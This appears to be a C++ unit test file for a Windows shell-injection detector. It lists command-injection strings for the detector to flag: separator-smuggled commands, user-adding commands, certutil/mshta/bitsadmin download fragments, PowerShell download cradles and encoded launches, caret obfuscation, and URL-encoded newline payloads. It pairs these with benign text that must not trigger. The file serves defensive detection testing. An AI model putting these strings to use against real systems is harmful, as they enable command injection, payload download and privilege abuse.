#include "structure/windows_shell.h"

#include <cppunit/TestFixture.h>

#include "unit/structure/detector_check.h"
#include "unit/structure/everyday_values.h"

namespace errwatch {
namespace {

constexpr DetectorCheck kWindows{HasWindowsShell, kWindowsShellMarks};

class WindowsShellTest : public CppUnit::TestFixture {
  CPPUNIT_TEST_SUITE(WindowsShellTest);
  CPPUNIT_TEST(CommandsBehindSeparators);
  CPPUNIT_TEST(ToolsWithOptions);
  CPPUNIT_TEST(PowerShell);
  CPPUNIT_TEST(DressAndVariables);
  CPPUNIT_TEST(LinesAsSent);
  CPPUNIT_TEST(EverydayValuesHaveNone);
  CPPUNIT_TEST_SUITE_END();

 public:
  void CommandsBehindSeparators() {
    kWindows.FindsAll({"&& dir",
                       "|dir c:\\",
                       "| type c:\\boot.ini",
                       "& net user",
                       "&net localgroup administrators",
                       "x&whoami",
                       "& ping -n 5 127.0.0.1",
                       "|| ver & dir c:\\",
                       "& ipconfig /all",
                       "| systeminfo",
                       "& tasklist",
                       "&& set /p x",
                       "& copy a.txt c:\\inetpub",
                       "& del /q x",
                       "& echo %path%",
                       "|findstr x",
                       "& nslookup a.example",
                       "\" & whoami & \"",
                       "& c:\\windows\\system32\\cmd.exe /c dir",
                       "& reg query hklm",
                       "$(cmd)",
                       "& if exist c:\\x dir",
                       "net user x y /add",
                       "reg add hklm\\software\\x /v y"});
    kWindows.FindsNone({"Tom & Jerry", "copy & paste", "mix & type", "net | gross", "& more", "type | cost",
                        "the net user count", "path | route", "find & replace", "net user"});
  }

  void ToolsWithOptions() {
    kWindows.FindsAll({"cmd /c dir", "cmd.exe /k x", "cmd/c whoami", "certutil -urlcache -f http://a/b",
                       "certutil.exe -decode a b", "mshta http://a/b.hta", "rundll32 javascript:x",
                       "regsvr32 /s /u x.sct", "bitsadmin /transfer x", "wmic /node:x process",
                       "schtasks /create", "x wmic -y", "powershell -enc SQBFAFgA",
                       "powershell.exe -nop -w hidden", "pwsh -c x"});
    kWindows.FindsNone({"powershell - how to", "cmd - a shell", "what is cmd", "wmic is old", "cipher/aes.c",
                        "about mshta"});
  }

  void PowerShell() {
    kWindows.FindsAll(
        {"iex(x)", "iex (new-object x)", "x|iex (y)", "(new-object net.webclient).downloadstring('http://a')",
         "[convert]::frombase64string(x)", "[system.text.encoding]::utf8", "invoke-webrequest http://a/b",
         "start-process -filepath x.exe", "; iwr http://a/b", ";get-process -name x"});
    kWindows.FindsNone(
        {"foo::bar", "std::string", "start-process improvement", "get-content strategy", "[a]::b"});
  }

  void DressAndVariables() {
    kWindows.FindsAll({"who^ami", "c^m^d /c x", "& w^hoami", "%comspec% /c x", "%windir%\\system32",
                       "%x:~0,1%", "x&for %i in (a,b) do x", "for /f \"tokens=1\" %%g in (x) do y",
                       "& for %@ in (a) do b"});
    kWindows.FindsNone(
        {"2^10", "a^b", "x^2+y^2", "%path%", "100% in (brackets)", "50 %", "if you exist", "%windir%"});
  }

  void LinesAsSent() {
    kWindows.FindsAll({"\\r\\nwhoami", "%0adir+c:%5c", "x%0d%0atype%20c:%5cboot.ini", "%0a+dir+c:%255c"},
                      TextKind::kQuery);
    kWindows.FindsNone({"a%0atype+of+house", "Hello%0d%0aset+it+up"}, TextKind::kQuery);
  }

  void EverydayValuesHaveNone() { kWindows.FindsNone(EverydayValues()); }
};

CPPUNIT_TEST_SUITE_REGISTRATION(WindowsShellTest);

}  // namespace
}  // namespace errwatch
